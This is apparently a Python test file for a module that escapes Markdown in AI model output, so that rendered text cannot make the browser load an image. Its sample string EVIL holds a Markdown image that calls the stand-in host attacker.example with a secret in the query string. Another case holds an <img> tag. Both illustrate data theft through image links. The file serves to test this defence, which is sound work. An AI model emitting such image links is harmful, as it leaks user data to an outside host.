"""Model output shown as Markdown cannot make the browser load an image."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.display.safe_text import WORD_JOINER, inert, safe_markdown, safe_stream

EVIL = "Here: ![pixel](https://attacker.example/p.png?q=secret) and [a link](https://example.com)"


def test_images_are_escaped_links_and_text_kept():
    out = safe_markdown(EVIL)
    assert "![" not in out
    assert "!\\[pixel](https://attacker.example/p.png?q=secret)" in out
    assert "[a link](https://example.com)" in out


def test_stream_escapes_an_image_split_across_chunks():
    chunks = ["look ", "!", "[x](http://h/i.png)", " done!"]
    joined = "".join(safe_stream(chunks))
    assert joined == "look !\\[x](http://h/i.png) done!"


@given(st.lists(st.text(alphabet="![]ab ", max_size=6), max_size=12))
def test_stream_equals_escaping_the_whole_text(chunks):
    assert "".join(safe_stream(chunks)) == safe_markdown("".join(chunks))


def _unescaped(md: str) -> str:
    """What a reader sees: backslash escapes resolved, the invisible word joiner dropped."""
    import re

    return re.sub(r"\\([^A-Za-z0-9\s])", r"\1", md).replace(WORD_JOINER, "")


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://127.0.0.1:9/pixel)",
        "<img src=http://127.0.0.1:9/p>",
        ":red[alarm] $x^2$ **bold** `code` # heading",
        "[link](https://example.com) www.example.com https://example.com/a_b",
        "back\\slash and trailing \\",
        "guardrail",
    ],
)
def test_inert_text_reads_as_itself_and_leaves_no_markdown(text):
    md = inert(text)
    assert _unescaped(md) == text
    # No unescaped Markdown punctuation is left, and no bare address can auto-link.
    import re

    assert not re.search(r"(?<!\\)[!\[\]()<>*`$:_#]", md.replace("\\\\", ""))
    assert "http:" not in md.replace("\\", "") and "https:" not in md.replace("\\", "")
    assert "www." not in md.lower().replace("\\", "")


def test_inert_joins_lines_and_cuts_long_text():
    assert _unescaped(inert("a\n# b\n- c")) == "a # b - c"
    cut = inert("x" * 50, limit=10)
    assert cut == "x" * 9 + "…"
    assert inert(None) == "" and inert(42) == "42"
